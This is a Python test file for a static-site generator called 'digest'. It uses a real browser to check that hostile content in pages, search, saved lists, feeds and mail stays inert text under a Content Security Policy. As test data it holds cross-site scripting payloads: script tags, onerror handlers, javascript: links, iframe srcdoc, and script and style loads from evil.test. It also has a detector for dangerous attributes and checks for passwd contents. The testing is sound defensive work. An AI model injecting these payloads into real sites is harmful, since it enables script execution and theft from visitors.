"""Hostile content in a real browser: nothing of it runs, asks another host, or is more than text."""

from __future__ import annotations

import email
import json
import re
import xml.etree.ElementTree as ElementTree
from collections.abc import Callable
from email.policy import default
from typing import TYPE_CHECKING

import html5lib
import pytest
from click.testing import CliRunner

from digest.cli import cli
from tests.browser.reading import wait_until
from tests.trust.hostile import BROKEN, EVALUATED, MARKUP

if TYPE_CHECKING:
    from pathlib import Path

    from playwright.sync_api import BrowserContext, Page

    from tests.browser.observing import Observed
    from tests.browser.serving import ServedSite
    from tests.site.folder import SiteFolder

FOREIGN_PARTS = """() => {
  const parts = [];
  for (const element of document.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      const address = value.replace(/[\\x00-\\x20]/g, "");
      if (/^on/i.test(name) || name === "style" || name === "srcdoc") parts.push(`${element.tagName} ${name}`);
      if (/^(href|src|action|data|xlink:href)$/.test(name) && /^(javascript|data|vbscript):/i.test(address)) {
        parts.push(`${element.tagName} ${value}`);
      }
    }
    const isOurs = element.matches("script[src^='static/'], script[src^='../'], script[type='application/ld+json']");
    if (/^(script|iframe|object|embed|base|link|style)$/i.test(element.localName) && !isOurs) {
      const href = element.getAttribute("href") ?? "";
      if (element.localName !== "link" || /^(\\/\\/|https?:)/.test(href)) parts.push(element.outerHTML.slice(0, 200));
    }
  }
  return parts;
}"""
"""What on a page could run or fetch, had the policy a hole: none of it is ours."""


REDIRECT = b'<meta http-equiv="refresh"'


@pytest.fixture
def alerts(context: BrowserContext) -> list[str]:
    """What scripts of the content said. Ask for it before the first page is opened."""
    said: list[str] = []

    def write_down(dialog: object) -> None:
        said.append(dialog.message)  # type: ignore[attr-defined]
        dialog.dismiss()  # type: ignore[attr-defined]

    context.on("dialog", write_down)
    return said


@pytest.fixture
def url(hostile: SiteFolder, site_server: Callable[..., ServedSite]) -> str:
    """Address of the hostile site, below a path."""
    return site_server(hostile.root / "site", "/repo/").url


def test_the_traps_spring_where_nothing_holds_them(page: Page, observed: Observed, alerts: list[str], url: str) -> None:
    page.route(
        "**/open.html", lambda route: route.fulfill(body=f"<!doctype html><p>{MARKUP[1]}", content_type="text/html")
    )
    page.goto(f"{url}open.html")
    wait_until(page, "document.querySelector('img')?.complete")
    assert alerts == ["2"]
    assert observed.foreign_urls == ["http://evil.test/x"]
    assert sorted(page.evaluate(FOREIGN_PARTS)) == ["IMG onerror"]


def test_no_page_runs_or_fetches_anything_of_its_content(
    page: Page, observed: Observed, alerts: list[str], hostile: SiteFolder, url: str
) -> None:
    pages = [path for path, data in hostile.output().items() if path.endswith(".html") and REDIRECT not in data]
    found = []
    for path in pages:
        page.goto(url + path)
        found += [f"{path}: {part}" for part in page.evaluate(FOREIGN_PARTS)]
    assert len(pages) > 2 * len(MARKUP)
    assert found == []
    assert (alerts, observed.foreign_urls, observed.complaints) == ([], [], [])


def test_an_old_address_leads_to_a_page_of_the_site(
    page: Page, observed: Observed, hostile: SiteFolder, url: str
) -> None:
    old = {path: data.decode() for path, data in hostile.output().items() if REDIRECT in data}
    for path in [*old][:3]:
        page.goto(url + path)
        page.wait_for_url("**/" + re.findall(r"[^/=]+\.html", re.findall(r"url=([^\"]+)", old[path])[0])[-1])
    assert len(old) == len(MARKUP)
    assert observed.foreign_urls == []


def test_titles_stand_on_their_pages_letter_by_letter(hostile: SiteFolder) -> None:
    output = hostile.output()
    titles = {row["slug"]: row["title"] for row in map(json.loads, output["data/2025-09.jsonl"].splitlines())}
    shown = {
        slug: "".join(
            html5lib.parse(output[f"papers/{slug}.html"], namespaceHTMLElements=False).find(".//h1").itertext()
        )
        for slug in titles
    }
    assert shown == titles
    assert {" ".join(title.split()) for title in MARKUP} <= set(shown.values())


def test_results_and_facets_are_text(page: Page, observed: Observed, alerts: list[str], url: str) -> None:
    for query in (
        "<script>alert(80)</script>",
        "sheep",
        "script alert",
        '"><img src=x onerror=alert(81)>',
        "__proto__",
    ):
        page.goto(f"{url}search.html")
        page.locator("#search-box").fill(query)
        wait_until(page, "document.querySelector('.summary').textContent !== ''")
    page.goto(f"{url}search.html?q=sheep%20script")
    page.locator(".results h2 a").first.wait_for()
    page.locator(".found details summary").click()
    page.locator(".found details li button").first.click()
    wait_until(page, "new URLSearchParams(location.search).get('q').includes('tag:')")
    page.locator(".results h2 a").first.wait_for()
    assert page.evaluate(FOREIGN_PARTS) == []
    assert (alerts, observed.foreign_urls, observed.complaints) == ([], [], [])


def test_the_saved_list_is_text(
    page: Page, observed: Observed, alerts: list[str], hostile: SiteFolder, url: str
) -> None:
    slugs = [json.loads(line)["slug"] for line in hostile.output()["data/2025-09.jsonl"].splitlines()][:6]
    for slug in slugs:
        page.goto(f"{url}papers/{slug}.html")
        page.get_by_role("button", name="Save").click()
        wait_until(page, f"digest.read('saved', {{}})[{json.dumps(slug)}]?.csl")
    page.goto(f"{url}saved.html#papers={','.join(slugs)},<img src=x onerror=alert(90)>,javascript:alert(91),__proto__")
    page.locator(".papers li").nth(len(slugs) - 1).wait_for()
    for form in ("bib", "csl", "ris"):
        page.locator(".format").select_option(form)
        with page.expect_download():
            page.locator(".download").click()
    assert page.evaluate(FOREIGN_PARTS) == []
    assert (alerts, observed.foreign_urls, observed.complaints) == ([], [], [])


def test_feeds_opened_in_a_browser_are_text(
    page: Page, observed: Observed, alerts: list[str], hostile: SiteFolder, url: str
) -> None:
    feeds = [path for path in hostile.output() if re.fullmatch(r"(tags/[^/]*|feed)\.xml", path)]
    for path in feeds:
        page.goto(url + path)
        page.locator("feed > p").wait_for()
        assert page.locator("script, img, iframe").count() == 0
    assert len(feeds) == 3
    assert (alerts, observed.foreign_urls) == ([], [])


def test_every_feed_catalogue_and_citation_can_be_parsed(hostile: SiteFolder) -> None:
    for path, data in hostile.output().items():
        if path.endswith((".xml", ".svg")):
            ElementTree.fromstring(data)
        elif path.endswith(".json"):
            json.loads(data)
        elif path.endswith(".html"):
            for block in re.findall(rb'<script type="application/ld\+json">(.*?)</script>', data, re.DOTALL):
                json.loads(block)


def test_no_template_syntax_of_the_content_is_evaluated(hostile: SiteFolder) -> None:
    output = hostile.output()
    assert [path for path, data in output.items() if EVALUATED.encode() in data or b"root:x:0" in data] == []
    assert sum(b"{{ 191*193 }}" in data for data in output.values()) > 10


def test_the_mail_of_a_day_runs_nothing(
    page: Page, observed: Observed, alerts: list[str], hostile: SiteFolder, tmp_path: Path
) -> None:
    arguments = ("mail", "2025-09-02", "--out", str(tmp_path / "day.eml"), "--base-url", "https://example.org/")
    run = CliRunner().invoke(cli, ["-C", str(hostile.root), *arguments])
    assert run.exit_code == 0, run.output
    message = email.message_from_bytes((tmp_path / "day.eml").read_bytes(), policy=default)
    body = message.get_body(("html",))
    assert body is not None
    (tmp_path / "day.html").write_text(body.get_content(), encoding="utf-8")
    page.goto((tmp_path / "day.html").as_uri())
    assert page.locator("script, iframe, object, img[src*='evil']").count() == 0
    assert (
        page.evaluate("document.querySelectorAll('[onerror], [onload], [ontoggle], [href^=\"javascript:\"]').length")
        == 0
    )
    assert (alerts, [address for address in observed.urls if "evil" in address]) == ([], [])
    assert [name for name, value in message.items() if "\n" in value or "\r" in value] == []


@pytest.mark.parametrize(
    "injected",
    [
        "<script>alert('injected')</script>",
        "<img src=x onerror=\"alert('injected')\">",
        "<a id=injected href=\"javascript:alert('injected')\">x</a>",
        "<script src=https://evil.test/x.js></script>",
        "<iframe srcdoc=\"<script>alert('injected')</script>\"></iframe>",
        "<style>@import 'https://evil.test/x.css'; body { background: url(https://evil.test/y) }</style>",
        "<base href=https://evil.test/><script src=static/x.js></script>",
        "<object data=https://evil.test/x></object><embed src=https://evil.test/y>",
    ],
    ids=["script", "handler", "address", "foreign script", "frame", "style", "base", "object"],
)
def test_the_policy_alone_stops_what_would_be_injected(
    page: Page, observed: Observed, alerts: list[str], hostile: SiteFolder, url: str, injected: str
) -> None:
    whole = hostile.output()["about.html"].decode()
    page.route("**/injected.html", lambda route: route.fulfill(
        body=whole.replace("</main>", f"{injected}</main>"), content_type="text/html; charset=utf-8"
    ))  # fmt: skip
    refused: list[str] = []
    page.on("requestfailed", lambda request: refused.append(request.url) if request.failure == "csp" else None)
    page.goto(f"{url}injected.html")
    if page.locator("#injected").count():
        page.locator("#injected").click()
    page.evaluate("() => new Promise(done => requestAnimationFrame(() => setTimeout(done)))")
    assert alerts == []
    assert set(observed.foreign_urls) - set(refused) == set()
    assert any("Content Security Policy" in line for line in observed.complaints)


def test_what_must_be_refused_is_refused_by_name(hostile: SiteFolder) -> None:
    errors = [str(found) for found in hostile.build().diagnostics if "/2025-09/" in found.path]
    for name in BROKEN:
        assert [line[:60] for line in errors if f"/{name}:" in line] != [], name
    assert not (hostile.root / "owned").exists()


def test_nothing_is_written_outside_of_the_sites_folder(hostile: SiteFolder) -> None:
    assert [path.name for path in hostile.root.parent.iterdir()] == ["site"]
    assert {path.name for path in hostile.root.iterdir()} == {".digest", "content", "digest.toml", "site"}


def test_what_the_terminal_prints_has_no_control_characters(hostile: SiteFolder) -> None:
    run = CliRunner().invoke(cli, ["-C", str(hostile.root), "build"])
    assert "by-hand-10.md" in run.output
    assert [line for line in run.output.splitlines() if not line.isprintable()] == []
